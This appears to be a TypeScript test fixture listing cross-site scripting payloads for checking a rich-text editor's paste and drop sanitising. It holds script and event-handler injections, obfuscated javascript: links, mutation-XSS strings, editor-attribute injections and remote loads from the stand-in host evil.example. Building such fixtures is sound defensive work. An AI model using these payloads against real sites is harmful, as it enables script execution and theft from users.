/** Things that run script if anything lets them: `RUN` is put in the place of the script. More are added as lines. */
const run = 'window.__pwned=1';
const events = ['error', 'load', 'focus', 'mouseover', 'toggle', 'animationstart', 'begin'];
const tags = [
  'img src=x',
  'svg',
  'body',
  'input autofocus',
  'details open',
  'video src=x',
  'iframe src=/',
];

const written = [
  `<script>${run}</script>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<svg><script>${run}</script></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<object data="data:text/html,<script>${run}</script>"></object>`,
  `<embed src="data:text/html,<script>${run}</script>">`,
  `<style>@import 'https://evil.example/x.css';</style><p>styled</p>`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<p style="background:url(https://evil.example/p.png)">styled</p>`,
  `<img src="https://evil.example/p.png" srcset="https://evil.example/q.png 2x">`,
  `<base href="https://evil.example/"><a href="/x">x</a>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  `<form action="javascript:${run}"><button>x</button></form>`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<p data-pm-slice='0 0 ["heading",{"level":"<img src=x onerror=${run}>"}]'>x</p>`,
  `<p data-pm-slice='0 0 ["bulletList",{"kept":["script",{"onload":"${run}"}]}]'>x</p>`,
  `<ol start="<img onerror=${run}>" type="${run}"><li>x</li></ol>`,
  `<li data-type="taskItem" data-checked="<img src=x onerror=${run}>">x</li>`,
];
const links = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `java&#10;script:${run}`,
  ` javascript:${run}`,
  `\u0001javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `vbscript:${run}`,
  `blob:https://evil.example/1`,
  `view-source:javascript:${run}`,
  `https:javascript:${run}`,
  `//evil.example`,
];

/** Payloads as HTML: what is pasted and dropped. */
export const htmlPayloads: readonly string[] = [
  ...written,
  ...tags.flatMap((tag) => events.map((event) => `<${tag} on${event}="${run}">`)),
  ...links.map((href) => `<a href="${href}">click</a>`),
];

/** Payloads as values: what peers put into attributes, marks, names. */
export const valuePayloads: readonly unknown[] = [
  ...links,
  ...written,
  ['script', {}, run],
  ['img', { src: 'x', onerror: run }],
  { toString: run, href: `javascript:${run}` },
  JSON.parse(`{"__proto__":{"onerror":"${run}"},"href":"javascript:${run}"}`),
];
